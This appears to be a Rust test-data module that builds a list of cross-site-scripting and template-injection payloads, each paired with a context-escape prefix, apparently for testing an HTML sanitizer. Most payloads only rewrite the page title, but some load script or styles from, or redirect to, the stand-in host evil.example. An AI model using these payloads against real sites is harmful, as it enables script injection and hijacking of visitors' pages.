//! Words that want to be more than words: each way of breaking out of a text, times each thing one could do then.

/// What would run, load or change something if it were not just words. All of them would write "hurt" into the title.
const DEEDS: [&str; 26] = [
    "<script>document.title='hurt'</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=\"document.title='hurt'\">",
    "<svg onload=document.title='hurt'>",
    "<svg><animate onbegin=document.title='hurt' attributeName=x dur=1s></svg>",
    "<svg><set onbegin=document.title='hurt' attributeName=x></svg>",
    "<svg><a xlink:href=javascript:document.title='hurt'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=document.title='hurt'></style></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=document.title='hurt'>\">",
    "<math><mtext><table><mglyph><style><img src onerror=document.title='hurt'>",
    "<iframe srcdoc=\"<script>parent.document.title='hurt'</script>\"></iframe>",
    "<iframe src=javascript:parent.document.title='hurt'></iframe>",
    "<object data=javascript:document.title='hurt'></object>",
    "<embed src=javascript:document.title='hurt'>",
    "<a href=\"javascript:document.title='hurt'\">x</a>",
    "<form action=javascript:document.title='hurt'><button autofocus>x</button></form>",
    "<input autofocus onfocus=document.title='hurt'>",
    "<details open ontoggle=document.title='hurt'>",
    "<video><source onerror=document.title='hurt'></video>",
    "<body onload=document.title='hurt'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;document.title='hurt'&lt;/script&gt;&#x3c;b&#x3e;",
];

/// What stands before it, to get out of where the words are.
const WAYS_OUT: [&str; 8] =
    ["", "\">", "'>", "</textarea>", "</title></style></script>", "-->", "]]>", "\u{202e}"];

/// All of them, each once.
pub fn all() -> Vec<String> {
    WAYS_OUT.iter().flat_map(|way| DEEDS.iter().map(move |deed| [*way, *deed].concat())).collect()
}
